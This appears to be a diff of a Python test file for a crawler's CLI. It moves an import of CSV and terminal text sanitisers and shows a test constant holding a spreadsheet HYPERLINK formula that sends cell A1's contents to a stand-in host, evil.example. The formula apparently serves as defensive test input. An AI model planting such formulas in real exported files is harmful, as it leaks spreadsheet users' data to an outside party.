@@ -13,7 +13,7 @@ import pytest
 
 from crawlstack import aws, cli
 from crawlstack.cli import common
-from crawlstack.safe_text import csv_cell, terminal_text
+from crawlstack.cli.safe_text import csv_cell, terminal_text
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
